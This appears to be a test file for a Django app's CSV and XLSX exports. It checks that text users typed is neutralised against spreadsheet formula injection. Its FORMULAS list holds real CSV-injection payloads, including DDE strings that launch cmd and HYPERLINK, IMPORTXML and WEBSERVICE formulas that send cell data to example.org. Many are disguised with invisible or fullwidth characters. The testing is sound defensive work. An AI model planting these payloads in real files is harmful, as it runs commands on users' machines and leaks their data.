"""Text stays text: nothing that people typed becomes a formula, a link, another cell or another row."""

from __future__ import annotations

import io
from datetime import date
from decimal import Decimal

import pytest
from django.utils import translation

from needs.services.export_columns import ListColumn, Type
from needs.services.export_files import CsvFile, XlsxFile, harmless
from tests.needs.spreadsheets import Workbook, csv_rows

#: What a spreadsheet may run, as reported against exports of other products and in guides on CSV injection.
FORMULAS = (
    "=1+1",
    "=HYPERLINK(\"http://example.org/?\"&A1,\"Click\")",
    "=cmd|' /C calc'!A0",
    "=IMPORTXML(CONCAT(\"http://example.org/?v=\",A1),\"//a\")",
    "=WEBSERVICE(\"http://example.org\")",
    "=DDE(\"cmd\",\"/C calc\",\"x\")",
    "+1+1",
    "+cmd|' /C calc'!A0",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "@cmd|' /C calc'!A0",
    "|cmd",
    "%0A=1+1",
    " =1+1",
    "   \t=1+1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\u2003=1+1",
    "\u00ad=1+1",
    "\uff1d1+1",
    "\uff0b1+1",
    "\uff0d1+1",
    "\uff20SUM(1)",
    "\ufe66\uff1d1",
    "=",
    "==",
    "- kreveti",
    "+387 37 222 333",
    "@bihac",
)  # fmt: skip
HARMLESS = (
    "Beds = 40",
    "x=1+1",
    "'=1+1",
    "40 beds, 20 blankets",
    "5 % of the beds",
    "a;=1+1",
    "a,=1+1",
    'a",=1+1',
    "a\n=1+1",
    "http://example.org/",
    "mailto:a@example.org",
    "internal:Sheet1!A1",
    "Žene i djeca",
    "Жени и деца",
    "0012",
    "1E9",
    "1/2",
    "2026-11-22",
    "TRUE",
    "_x0041_",
    "",
)
COLUMNS = (
    ListColumn("title", "Need", Type.TEXT, lambda need, scope: ""),
    ListColumn("people", "People", Type.NUMBER, lambda need, scope: 0),
    ListColumn("cost", "Cost", Type.MONEY, lambda need, scope: 0),
    ListColumn("logged", "Logged", Type.DATE, lambda need, scope: 0),
)


def csv_of(*rows, language: str = "en-gb") -> bytes:
    content = io.BytesIO()
    with translation.override(language):
        file = CsvFile(content, COLUMNS)
        for row in rows:
            file.write_row(row)
        file.end([("List", "left out")])
    return content.getvalue()


def xlsx_of(*rows, columns=COLUMNS, cover=()) -> Workbook:
    content = io.BytesIO()
    file = XlsxFile(content, columns, sheet="Needs", cover="About this file")
    for row in rows:
        file.write_row(row)
    file.end(cover)
    return Workbook.read(content.getvalue())


def row(text: str) -> list:
    return [text, 620, Decimal("12.50"), date(2026, 11, 22)]


@pytest.mark.parametrize("text", FORMULAS)
@pytest.mark.parametrize("language", ["en-gb", "bs"])
def test_what_could_be_a_formula_gets_an_apostrophe_in_csv(text, language):
    rows = csv_rows(csv_of(row(text), language=language), "," if language == "en-gb" else ";")

    assert rows[1][0] == f"'{text}"
    assert len(rows) == 2


@pytest.mark.parametrize("text", HARMLESS)
@pytest.mark.parametrize("delimiter", [",", ";"])
def test_other_text_is_left_alone_and_stays_one_cell_for_either_separator(text, delimiter):
    """A program that expects the other separator finds no cell that begins after a comma inside a title."""
    content = csv_of(row(text), language="en-gb" if delimiter == "," else "bs")

    other = csv_rows(content, ";" if delimiter == "," else ",")

    assert csv_rows(content, delimiter)[1][0] == text
    assert not [cell for cell in other[1] if cell.startswith(("=", "+", "-", "@"))]


@pytest.mark.parametrize("text", [*FORMULAS, *HARMLESS])
def test_every_text_is_text_in_a_workbook(text):
    book = xlsx_of(row(text), cover=[(text, text)])

    assert book.sheets["Needs"][1][0] == ("s", text)
    assert book.sheets["About this file"][0] == [("s", text), ("s", text)]
    assert "<f>" not in book.xml
    assert "hyperlink" not in book.xml
    assert 'Target="http' not in book.xml


def test_cells_of_a_workbook_have_types():
    book = xlsx_of(row("Beds"), ["Tents", "fewer than 5", "not known", date(2026, 1, 2)])

    assert book.sheets["Needs"] == [
        [("s", "Need"), ("s", "People"), ("s", "Cost"), ("s", "Logged")],
        [("s", "Beds"), ("n", 620), ("n", 12.5), ("n", 46348)],
        [("s", "Tents"), ("s", "fewer than 5"), ("s", "not known"), ("n", 46024)],
    ]
    assert "yyyy-mm-dd" in book.parts["xl/styles.xml"]


def test_csv_has_the_separators_that_programs_of_the_language_read():
    english, bosnian = csv_of(row("Beds")), csv_of(row("Kreveti"), language="bs")

    assert csv_rows(english, ",")[1] == ["Beds", "620", "12.50", "2026-11-22"]
    assert csv_rows(bosnian, ";")[1] == ["Kreveti", "620", "12,50", "2026-11-22"]


@pytest.mark.parametrize(("language", "line"), [("en-gb", '"Beds",620,12.50,'), ("bs", '"Beds";620;12,50;')])
def test_numbers_of_csv_stand_without_quotes_whole_or_not(language, line):
    content = csv_of(row("Beds"), language=language).decode("utf-8-sig")

    assert content.splitlines()[1].startswith(line)


def test_heads_of_columns_cannot_be_formulas_either():
    columns = (ListColumn("x", "=1+1", Type.TEXT, lambda need, scope: ""),)
    content = io.BytesIO()
    CsvFile(content, columns).end([])

    assert csv_rows(content.getvalue()) == [["'=1+1"]]
    assert xlsx_of(columns=columns).sheets["Needs"] == [[("s", "=1+1")]]


def test_an_empty_text_is_harmless():
    assert harmless("") == ""
    assert harmless("   ") == "   "


def test_a_long_sheet_name_or_one_with_forbidden_signs_is_cut_to_what_the_format_allows():
    content = io.BytesIO()
    XlsxFile(content, COLUMNS, sheet="Needs: all / of [them]? *", cover="'" + "x" * 40).end([])

    assert list(Workbook.read(content.getvalue()).sheets) == ["x" * 30, "Needs  all   of  them"]
